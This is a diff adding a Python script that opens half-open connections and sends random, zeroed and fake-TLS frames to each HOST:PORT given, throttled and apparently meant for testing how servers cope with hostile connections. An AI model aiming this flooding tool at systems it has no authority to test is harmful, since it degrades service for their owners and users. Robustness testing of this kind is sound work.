@@ -1,0 +1,42 @@
+"""Sends hostile frames and half-open connections to each ``HOST:PORT`` until it is ended.
+
+Prints how many of each it has made when it gets SIGTERM. It is slowed down to about a thousand
+connections a second, so that it does not take the CPUs from those whom it attacks.
+"""
+
+import contextlib
+import json
+import os
+import select
+import signal
+import socket
+import sys
+import time
+
+HELD, PAUSE_S = 60, 0.001
+counts = {"frames": 0, "half open": 0}
+
+
+def end(*_: object) -> None:
+    print(json.dumps(counts), flush=True)
+    os._exit(0)
+
+
+signal.signal(signal.SIGTERM, end)
+os.nice(19)
+places = [(place.rpartition(":")[0], int(place.rpartition(":")[2])) for place in sys.argv[1:]]
+held: list[socket.socket] = []
+while True:
+    for place in places:
+        for frame in (b"", os.urandom(2000), b"\0" * 2000, b"\x16\x03\x01" + os.urandom(300)):
+            calling = socket.socket()
+            calling.setblocking(False)
+            calling.connect_ex(place)
+            with contextlib.suppress(OSError):
+                if frame and select.select([], [calling], [], 0.01)[1]:
+                    calling.send(frame)
+            counts["frames" if frame else "half open"] += 1
+            held.append(calling)
+            time.sleep(PAUSE_S)
+    while len(held) > HELD * len(places):
+        held.pop(0).close()
